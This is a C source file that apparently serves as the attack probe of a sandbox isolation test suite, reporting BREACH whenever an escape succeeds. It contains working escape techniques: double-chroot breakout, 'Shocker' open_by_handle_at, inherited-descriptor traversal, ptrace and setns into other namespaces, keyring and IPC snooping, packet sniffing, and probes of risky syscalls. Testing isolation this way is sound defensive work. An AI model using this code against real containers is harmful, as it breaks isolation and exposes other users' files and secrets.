/* What a shell cannot do: the attacks of tests/attacks that need system calls of their own.
 *
 *     cc -static -o attack attack.c
 *
 * Whatever succeeds says BREACH on standard output; what fails says why, and ends with status 1. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>
#include <mqueue.h>
#include <net/ethernet.h>
#include <netpacket/packet.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

static int failed(const char *what) {
  printf("%s: %s\n", what, strerror(errno));
  return 1;
}

static int breach(const char *format, ...) {
  va_list arguments;
  va_start(arguments, format);
  printf("BREACH ");
  vprintf(format, arguments);
  printf("\n");
  va_end(arguments);
  return 0;
}

static int show(int fd) {
  char text[256];
  ssize_t size = read(fd, text, sizeof text - 1);
  if (size < 0) return failed("read");
  text[size] = 0;
  return breach("read %s", text);
}

/* The classic: a second chroot leaves the working directory outside of the first. */
static int leave_chroot(char **words) {
  mkdir("/tmp/inner", 0700);
  if (chroot("/tmp/inner")) return failed("chroot");
  for (int i = 0; i < 64; i++)
    if (chdir("..")) return failed("chdir");
  if (chroot(".")) return failed("chroot");
  int fd = open(words[0], O_RDONLY);
  return fd < 0 ? failed(words[0]) : show(fd);
}

/* Directories that somebody left open lead to where they are, not to where we are. */
static int inherited(char **words) {
  char path[4096];
  for (int fd = 3; fd < 1024; fd++) {
    int file = openat(fd, words[0], O_RDONLY | O_NOFOLLOW);
    if (file < 0 && words[0][0] == '/') continue;
    if (file >= 0) return show(file);
    snprintf(path, sizeof path, "../../../../../../../..%s", words[1]);
    if ((file = openat(fd, path, O_RDONLY)) >= 0) return show(file);
  }
  errno = ENOENT;
  return failed("no directory was left open");
}

struct handle {
  struct file_handle head;
  unsigned char bytes[128];
};

static int make_handle(char **words) {
  struct handle handle = {.head.handle_bytes = sizeof handle.bytes};
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, words[0], &handle.head, &mount_id, 0)) return failed(words[0]);
  printf("%d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.bytes[i]);
  printf("\n");
  return 0;
}

/* "Shocker": a file is opened by its number on the disk, wherever its name is. */
static int open_handle(char **words) {
  struct handle handle = {0};
  int used = 0;
  if (sscanf(words[1], "%d:%n", &handle.head.handle_type, &used) != 1) return failed("handle");
  const char *hex = words[1] + used;
  for (; hex[0] && hex[1] && handle.head.handle_bytes < sizeof handle.bytes; hex += 2)
    sscanf(hex, "%2hhx", &handle.bytes[handle.head.handle_bytes++]);
  int place = open(words[0], O_RDONLY);
  if (place < 0) return failed(words[0]);
  int fd = open_by_handle_at(place, &handle.head, O_RDONLY);
  return fd < 0 ? failed("open_by_handle_at") : show(fd);
}

static int send_word(int fd, const char *word) {
  char text[256];
  int size = snprintf(text, sizeof text, "GET /%s HTTP/1.0\r\n\r\n", word);
  if (write(fd, text, size) != size) return failed("write");
  if (read(fd, text, 1) < 0) return failed("read");
  return breach("reached %s", word);
}

static int abstract(char **words) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t length = strlen(words[0]);
  memcpy(address.sun_path + 1, words[0], length);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + length)) return failed("connect");
  return send_word(fd, words[1]);
}

static int patient_socket(int family) {
  int fd = socket(family, SOCK_STREAM, 0);
  struct timeval two_seconds = {.tv_sec = 2};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &two_seconds, sizeof two_seconds);
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &two_seconds, sizeof two_seconds);
  return fd;
}

static int reach(char **words) {
  struct sockaddr_in old = {.sin_family = AF_INET, .sin_port = htons(atoi(words[1]))};
  struct sockaddr_in6 new = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(words[1]))};
  int is_new = strchr(words[0], ':') != NULL;
  if (inet_pton(is_new ? AF_INET6 : AF_INET, words[0], is_new ? (void *)&new.sin6_addr : &old.sin_addr) != 1) {
    errno = EINVAL;
    return failed("address");
  }
  int fd = patient_socket(is_new ? AF_INET6 : AF_INET);
  if (is_new ? connect(fd, (void *)&new, sizeof new) : connect(fd, (void *)&old, sizeof old)) return failed("connect");
  return send_word(fd, words[2]);
}

static int send_udp(char **words) {
  struct sockaddr_in old = {.sin_family = AF_INET, .sin_port = htons(atoi(words[1]))};
  struct sockaddr_in6 new = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(words[1]))};
  int is_new = strchr(words[0], ':') != NULL;
  inet_pton(is_new ? AF_INET6 : AF_INET, words[0], is_new ? (void *)&new.sin6_addr : &old.sin_addr);
  int fd = socket(is_new ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
  ssize_t sent = is_new ? sendto(fd, words[2], strlen(words[2]), 0, (void *)&new, sizeof new)
                        : sendto(fd, words[2], strlen(words[2]), 0, (void *)&old, sizeof old);
  // Whether it arrives is seen where it should not.
  return sent < 0 ? failed("sendto") : 0;
}

static int listen_on(char **words) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(words[0]))};
  int yes = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
  struct timeval patience = {.tv_sec = atoi(words[1])};
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  if (bind(fd, (void *)&address, sizeof address) || listen(fd, 1)) return failed("listen");
  int caller = accept(fd, NULL, NULL);
  return caller < 0 ? failed("accept") : breach("somebody of the host called");
}

static int sniff(char **words) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (fd < 0) return failed("socket");
  struct timeval second = {.tv_sec = 1};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
  char packet[2048];
  for (int i = 0; i < 200; i++) {
    ssize_t size = recv(fd, packet, sizeof packet, 0);
    if (size < 0) break;
    if (memmem(packet, size, words[0], strlen(words[0]))) return breach("overheard %s", words[0]);
  }
  errno = ENOMSG;
  return failed("sniff");
}

static int make_shm(char **words) {
  int id = shmget(atoi(words[0]), 256, IPC_CREAT | 0666);
  if (id < 0) return failed("shmget");
  strcpy(shmat(id, NULL, 0), words[1]);
  printf("%d\n", id);
  return 0;
}

static int read_shm(char **words) {
  int id = shmget(atoi(words[0]), 0, 0);
  if (id < 0) return failed("shmget");
  char *text = shmat(id, NULL, SHM_RDONLY);
  return text == (void *)-1 ? failed("shmat") : breach("read %s", text);
}

static int read_queue(char **words) {
  struct mq_attr attributes;
  char text[8192];
  mqd_t queue = mq_open(words[0], O_RDONLY | O_NONBLOCK);
  if (queue < 0 || mq_getattr(queue, &attributes)) return failed("mq_open");
  ssize_t size = mq_receive(queue, text, sizeof text, NULL);
  return size < 0 ? failed("mq_receive") : breach("read %.*s", (int)size, text);
}

static int make_queue(char **words) {
  mqd_t queue = mq_open(words[0], O_RDWR | O_CREAT, 0666, NULL);
  return queue < 0 || mq_send(queue, words[1], strlen(words[1]), 0) ? failed("mq_open") : 0;
}

static int drop_queue(char **words) { return mq_unlink(words[0]) ? failed("mq_unlink") : 0; }

static int read_key(char **words) {
  int rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
  char text[256] = "";
  for (unsigned i = 0; i < sizeof rings / sizeof *rings; i++) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", words[0], 0);
    if (key > 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) > 0) return breach("read %s", text);
  }
  return failed("keyctl");
}

/* with-leaks DIRECTORY KEY TEXT COMMAND...: what a careless parent hands down. */
static int with_leaks(char **words) {
  int fd = open(words[0], O_RDONLY | O_DIRECTORY);
  if (fd < 0 || dup2(fd, 9) < 0) return failed(words[0]);
  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) return failed("keyctl");
  long key = syscall(SYS_add_key, "user", words[1], words[2], strlen(words[2]), KEY_SPEC_SESSION_KEYRING);
  if (key < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f3f3f)) return failed("add_key");
  execvp(words[3], words + 3);
  return failed(words[3]);
}

/* Takes over a process that has the word in its command line, and another root: it sees more than we do. */
static int trace(char **words) {
  struct stat own, other;
  stat("/", &own);
  DIR *processes = opendir("/proc");
  for (struct dirent *entry; (entry = readdir(processes));) {
    char path[300], line[4096];
    int pid = atoi(entry->d_name);
    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
    int fd = pid > 0 && pid != getpid() ? open(path, O_RDONLY) : -1;
    ssize_t size = fd < 0 ? 0 : read(fd, line, sizeof line);
    close(fd);
    if (size <= 0 || !memmem(line, size, words[0], strlen(words[0]))) continue;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
      failed("ptrace");
      continue;
    }
    snprintf(path, sizeof path, "/proc/%s/root", entry->d_name);
    if (!stat(path, &other) && (own.st_dev != other.st_dev || own.st_ino != other.st_ino))
      return breach("traces %s", words[0]);
  }
  return 1;
}

/* Joins the mount namespace of whoever is in another one. */
static int join(char **words) {
  struct stat own, other;
  stat("/proc/self/ns/mnt", &own);
  DIR *processes = opendir("/proc");
  for (struct dirent *entry; (entry = readdir(processes));) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/ns/mnt", entry->d_name);
    int fd = atoi(entry->d_name) > 0 ? open(path, O_RDONLY) : -1;
    if (fd < 0 || fstat(fd, &other) || other.st_ino == own.st_ino) continue;
    if (setns(fd, CLONE_NEWNS)) continue;
    int file = open(words[0], O_RDONLY);
    return file < 0 ? failed(words[0]) : show(file);
  }
  errno = ENOENT;
  return failed("no namespace to join");
}

/* What a container has no need for: each has been a way into the kernel. */
static int attempt(char **words) {
  const char *what = words[0];
  char page[256] = {0};
  long got = -1;
  errno = EINVAL;
  if (!strcmp(what, "userns")) got = unshare(CLONE_NEWUSER);
  if (!strcmp(what, "clone3")) {
    unsigned long arguments[11] = {CLONE_NEWUSER, [4] = SIGCHLD};
    got = syscall(SYS_clone3, arguments, sizeof arguments);
    if (!got) _exit(0);
  }
  if (!strcmp(what, "mount")) {
    mkdir("/tmp/mount", 0700);
    got = mount("none", "/tmp/mount", "tmpfs", 0, NULL);
  }
  if (!strcmp(what, "fsopen")) got = syscall(SYS_fsopen, "tmpfs", 0);
  if (!strcmp(what, "bpf")) {
    union bpf_attr attributes = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    got = syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes);
  }
  if (!strcmp(what, "perf_event_open")) {
    struct perf_event_attr attributes = {
        .type = PERF_TYPE_SOFTWARE, .size = sizeof attributes, .exclude_kernel = 1, .exclude_hv = 1};
    got = syscall(SYS_perf_event_open, &attributes, 0, -1, -1, 0);
  }
  if (!strcmp(what, "userfaultfd")) got = syscall(SYS_userfaultfd, 1);
  if (!strcmp(what, "io_uring_setup")) got = syscall(SYS_io_uring_setup, 1, page);
  if (!strcmp(what, "vsock")) got = socket(AF_VSOCK, SOCK_STREAM, 0);
  if (!strcmp(what, "syslog")) got = syscall(SYS_syslog, 3, page, sizeof page - 1);
  return got < 0 ? failed(what) : breach("%s", what);
}

int main(int count, char **words) {
  static const struct {
    const char *name;
    int words;
    int (*run)(char **);
  } commands[] = {
      {"leave-chroot", 1, leave_chroot}, {"inherited", 2, inherited},   {"make-handle", 1, make_handle},
      {"open-handle", 2, open_handle},   {"abstract", 2, abstract},     {"reach", 3, reach},
      {"udp", 3, send_udp},              {"listen", 2, listen_on},     {"sniff", 1, sniff},
      {"make-shm", 2, make_shm},         {"read-shm", 1, read_shm},     {"make-queue", 2, make_queue},
      {"read-queue", 1, read_queue},     {"drop-queue", 1, drop_queue}, {"read-key", 1, read_key},
      {"with-leaks", 4, with_leaks},     {"trace", 1, trace},           {"join", 1, join},
      {"try", 1, attempt},
  };
  for (unsigned i = 0; count > 1 && i < sizeof commands / sizeof *commands; i++)
    if (!strcmp(commands[i].name, words[1]) && count >= 2 + commands[i].words) return commands[i].run(words + 2);
  fprintf(stderr, "usage: attack COMMAND WORDS...; see attack.c\n");
  return 2;
}
